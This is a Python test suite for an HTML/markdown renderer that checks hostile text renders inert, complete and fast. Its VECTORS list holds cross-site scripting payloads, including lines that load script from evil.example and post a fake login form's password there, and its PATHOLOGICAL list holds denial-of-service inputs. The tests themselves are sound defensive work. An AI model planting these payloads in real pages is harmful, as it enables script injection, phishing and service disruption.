"""Whatever the text: listed elements, no attributes, every word in order, and soon."""

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from labelhub.rendering import render
from labelhub.rendering.bounds import MOST_INPUT
from tests.rendering.page import WORD, in_order, read_page, visible

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    "![pixel](https://evil.example/pixel.png)",
    '![x](x" onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    '[click](https://x.example "onmouseover=alert(1)")',
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '<https://x.example/" onclick="alert(1)>',
    "<svg onload=alert(1)><animate onbegin=alert(1)>",
    '<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)" hx-get="/x" hx-trigger=load>x</a>',
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<!-- hidden --><![CDATA[x]]><?php x ?><!DOCTYPE x>",
    "<div id=veil class=modal style=position:fixed>Fake page</div>",
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "`<img src=x onerror=alert(1)>`",
    "|a|b|\n|:-:|-:|\n|<script>x</script>|<img src=x>|",
    "# <img src=x onerror=alert(1)>",
    "*<b>a*</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "</p></div></main><h1>Your account is locked</h1>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "<p>a</p>\n\n<p\nonclick=alert(1)\n>b</p>",
    "\u202e<script>\u202calert(1)",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
)  # fmt: skip


@pytest.mark.parametrize("text", VECTORS)
@pytest.mark.parametrize("style", ["markdown", "plain"])
def test_a_hostile_text_is_inert_and_complete(text: str, style: str) -> None:
    rendered = render(text, "markdown" if style == "markdown" else "plain")

    shown = visible(rendered.html)
    assert in_order(WORD.findall(text.replace("\u200b", "")), shown.replace("⟦U+200B⟧", ""))


SIZE = MOST_INPUT
PATHOLOGICAL = {
    "40 KB of one table row": "|a" * 20_000 + "|\n" + "|-" * 20_000 + "|\n",
    "a row of many cells": "|a|b|\n|-|-|\n" + "|x" * 20_000,
    "a wide table of short rows": "|a" * 1000 + "|\n" + "|-" * 1000 + "|\n" + "|x\n" * 3000,
    "20,000 nested tags": "<b>" * 20_000,
    "10,000 quotes": ">" * 10_000,
    "10,000 spaced quotes": "> " * 10_000 + "a",
    "open brackets": "[" * SIZE,
    "open images": "![" * (SIZE // 2),
    "open links": "[a](" * (SIZE // 4),
    "images among quotes": "> ![>    " * (SIZE // 9),
    "escaped images": r"/![()\!" * (SIZE // 7),
    "a link in a link": "[" * 300 + "a" + "](b)" * 300,
    "stars": "*" * SIZE,
    "open emphasis": "*a **a " * (SIZE // 7),
    "mixed emphasis": "*_" * (SIZE // 2),
    "nested emphasis": "*a" * 5000 + "a*" * 5000,
    "strikes": "~~a" * (SIZE // 3),
    "rising backticks": "".join("`" * n + " " for n in range(1, 350)),
    "backslashes": "\\" * SIZE,
    "ampersands": "&" * SIZE,
    "autolinks": "<a:" * (SIZE // 3),
    "list marks": "- " * (SIZE // 2),
    "deep lists": "\n".join(" " * n + "- a" for n in range(300)),
    "many lists": "- a\n" * (SIZE // 4),
    "headings": "# a\n" * (SIZE // 4),
    "lines": "a\n" * (SIZE // 2),
    "empty lines": "\n" * SIZE,
    "lazy quotes": "> a\n" + "a\n" * (SIZE // 2),
    "definitions": "[a]: b\n" * (SIZE // 7),
    "comments": "<!--" * (SIZE // 4),
    "CDATA": "<![CDATA[" * (SIZE // 9),
    "parentheses": "[a](" + "(" * SIZE,
    "one word": "a" * SIZE,
    "bidi": "\u202e\u2066" * (SIZE // 2),
    "stacked marks": "e" + "\u0301" * SIZE,
    "stacked marks everywhere": ("e" + "\u0301" * 9) * (SIZE // 10),
    "tabs": "\t" * SIZE,
}


@pytest.mark.parametrize("case", PATHOLOGICAL)
def test_a_pathological_text_is_rendered_soon_and_within_bounds(case: str) -> None:
    text = PATHOLOGICAL[case][:SIZE]
    started = time.process_time()
    rendered = render(text, "markdown")
    spent = time.process_time() - started

    assert len(rendered.html.encode()) <= 8 * len(text.encode()) + 1024
    # Ten times what the worst of them takes; without the bounds some take minutes.
    assert spent < 5
    read_page(rendered.html)
    if not rendered.hidden:
        assert in_order(WORD.findall(text), visible(rendered.html))


WORDS = st.text(st.characters(categories=["Lu", "Ll", "Lo", "Nd"]), min_size=1, max_size=6)
ANY = st.text(st.characters(), max_size=12)
INLINE = st.recursive(
    WORDS | ANY | st.sampled_from(VECTORS),
    lambda inner: st.one_of(
        st.tuples(st.sampled_from(["*", "**", "_", "__", "~~", "`", "``"]), inner).map(
            lambda part: f"{part[0]}{part[1]}{part[0]}"
        ),
        st.tuples(inner, inner).map(" ".join),
        st.tuples(st.sampled_from(["", "!"]), inner, inner).map(
            lambda part: f"{part[0]}[{part[1]}]({part[2]})"
        ),
        inner.map(lambda text: f"<{text}>"),
    ),
    max_leaves=6,
)
BLOCK = st.recursive(
    INLINE,
    lambda inner: st.one_of(
        st.tuples(st.integers(1, 7), inner).map(lambda part: f"{'#' * part[0]} {part[1]}"),
        inner.map(lambda text: "> " + text.replace("\n", "\n> ")),
        st.tuples(st.sampled_from(["-", "*", "1.", "2.", "7)"]), st.lists(inner, min_size=1)).map(
            lambda part: "\n".join(f"{part[0]} {text}" for text in part[1])
        ),
        st.tuples(st.sampled_from(["```", "~~~"]), INLINE, inner).map(
            lambda part: f"{part[0]}{part[1]}\n{part[2]}\n{part[0]}"
        ),
        st.lists(st.lists(INLINE, min_size=1, max_size=3), min_size=1, max_size=3).map(
            lambda rows: "|a|b|\n|-|-|\n" + "\n".join("|" + "|".join(row) + "|" for row in rows)
        ),
        st.lists(inner, min_size=1, max_size=3).map("\n\n".join),
    ),
    max_leaves=8,
)


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(BLOCK)
def test_any_document_is_inert_and_complete(text: str) -> None:
    for style in ("markdown", "plain"):
        rendered = render(text, "markdown" if style == "markdown" else "plain")
        shown = visible(rendered.html)

        assert len(rendered.html.encode()) <= 8 * len(text.encode("utf-8", "replace")) + 4096
        if not rendered.hidden:
            assert in_order(WORD.findall(text), shown), rendered.renderer


@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(), max_size=200))
def test_any_text_can_be_stored_and_parsed(text: str) -> None:
    for style in ("markdown", "plain"):
        rendered = render(text, "markdown" if style == "markdown" else "plain")
        rendered.html.encode()
        read_page(rendered.html)
